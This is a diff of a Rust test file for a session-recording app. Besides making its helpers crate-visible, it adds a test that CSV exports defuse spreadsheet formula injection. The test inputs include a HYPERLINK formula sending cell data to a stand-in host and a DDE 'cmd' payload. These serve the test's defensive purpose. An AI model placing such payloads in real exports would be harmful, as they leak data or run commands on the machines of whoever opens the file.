@@ -22,7 +22,7 @@ use stillpoint::session::report::Report;
 
 /// Something the therapist did, `at` seconds into the record.
 #[derive(Clone, Copy)]
-enum Act {
+pub(crate) enum Act {
     Next,
     Pause,
     Resume,
@@ -34,7 +34,7 @@ enum Act {
 
 /// How the record ends.
 #[derive(Clone, Copy, PartialEq)]
-enum End {
+pub(crate) enum End {
     /// Closing questions (if any), then the closing summary.
     Closed,
     /// Cut off at this moment (s).
@@ -44,17 +44,18 @@ enum End {
 }
 
 /// One session to write.
-struct Plan {
+pub(crate) struct Plan {
     /// Local time as recorded, with its offset.
-    stamp: &'static str,
-    protocol: &'static str,
-    client: Option<&'static str>,
+    pub(crate) stamp: &'static str,
+    /// The bundled protocol's stem (see [`write_with`] for another).
+    pub(crate) protocol: &'static str,
+    pub(crate) client: Option<&'static str>,
     /// Pain and stress at the consultation.
-    before: Option<(u8, u8)>,
+    pub(crate) before: Option<(u8, u8)>,
     /// Pain, stress and note at the closing questions.
-    after: Option<(Option<u8>, Option<u8>, &'static str)>,
-    acts: &'static [(u64, Act)],
-    end: End,
+    pub(crate) after: Option<(Option<u8>, Option<u8>, &'static str)>,
+    pub(crate) acts: &'static [(u64, Act)],
+    pub(crate) end: End,
 }
 
 fn bundled(stem: &str) -> (&'static str, &'static str) {
@@ -73,9 +74,16 @@ fn drive(s: &mut Session, log: &mut Vec<Logged>, input: Input, at: u64) {
 }
 
 /// Writes `plan` into `dir` through the journal; returns the record's path.
-fn write(dir: &Path, plan: &Plan) -> PathBuf {
+pub(crate) fn write(dir: &Path, plan: &Plan) -> PathBuf {
     let (stem, text) = bundled(plan.protocol);
-    let protocol = Protocol::parse(text, Path::new(stem)).expect("bundled");
+    write_with(dir, plan, stem, text)
+}
+
+/// [`write`] with the protocol in `text` (recorded as from `stem`)
+/// instead of the bundled `plan.protocol`: for names and steps no bundled
+/// protocol has.
+pub(crate) fn write_with(dir: &Path, plan: &Plan, stem: &str, text: &str) -> PathBuf {
+    let protocol = Protocol::parse(text, Path::new(stem)).expect("a valid protocol");
     let stamp: jiff::Zoned = format!("{0}[{1}]", plan.stamp, &plan.stamp[19..])
         .parse()
         .expect("stamp");
@@ -331,7 +339,7 @@ pub(crate) fn run(f: impl FnOnce(&mut Vec<u8>) -> Result<(), HistoryError>) -> S
 }
 
 /// `show` names the record's file; the temp folder differs every run.
-fn scrub(text: &str, dir: &Path) -> String {
+pub(crate) fn scrub(text: &str, dir: &Path) -> String {
     text.replace(&dir.display().to_string(), "[DATA]")
 }
 
@@ -526,8 +534,75 @@ fn exports_in_three_formats() {
     );
 }
 
+#[test]
+fn csv_cells_a_spreadsheet_would_run_as_formulas_are_defused() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let s = dir.path().join("sessions");
+    let plan = |stamp, client| Plan {
+        stamp,
+        protocol: "still-point-10",
+        client: Some(client),
+        before: Some((5, 5)),
+        after: Some((Some(3), Some(3), "")),
+        acts: &[],
+        end: End::Closed,
+    };
+    let clients = [
+        (
+            "2026-11-02T09:30:00+01:00",
+            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")",
+        ),
+        ("2026-11-03T09:30:00+01:00", "+1-2"),
+        ("2026-11-04T09:30:00+01:00", "-2+3"),
+        ("2026-11-05T09:30:00+01:00", "@SUM(1,2)"),
+        ("2026-11-06T09:30:00+01:00", "\t=1+1"),
+        ("2026-11-07T09:30:00+01:00", "A-B"),
+    ];
+    for (stamp, client) in clients {
+        write(&s, &plan(stamp, client));
+    }
+    // A protocol whose name starts like a formula, too.
+    let protocol = BUNDLED[2]
+        .1
+        .replace("\"Still point, 10 minutes\"", "\"=cmd|' /C calc'!A0\"");
+    write_with(
+        &s,
+        &plan("2026-11-08T09:30:00+01:00", "AB"),
+        "formula",
+        &protocol,
+    );
+    let csv = run(|o| export(&s, &Filter::default(), Format::Csv, o));
+    let rows = parse_csv(&csv);
+    assert_eq!(rows.len(), 1 + 7, "{csv}");
+    for row in &rows {
+        assert_eq!(row.len(), 13, "still RFC 4180: {row:?}");
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+    }
+    let client_cells: Vec<&str> = rows[1..7].iter().map(|r| r[2].as_str()).collect();
+    assert_eq!(
+        client_cells,
+        [
+            "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")",
+            "'+1-2",
+            "'-2+3",
+            "'@SUM(1,2)",
+            "'\t=1+1",
+            "A-B"
+        ]
+    );
+    assert_eq!(rows[7][3], "'=cmd|' /C calc'!A0");
+    // The numbers the program writes are numbers still.
+    assert_eq!(rows[1][5].parse::<u64>().ok().map(|_| ()), Some(()));
+    assert_eq!(&rows[1][8..12], ["5", "3", "5", "3"]);
+}
+
 /// A strict little RFC 4180 reader, to check what export writes.
-fn parse_csv(text: &str) -> Vec<Vec<String>> {
+pub(crate) fn parse_csv(text: &str) -> Vec<Vec<String>> {
     let mut rows = Vec::new();
     let mut row = Vec::new();
     let mut field = String::new();
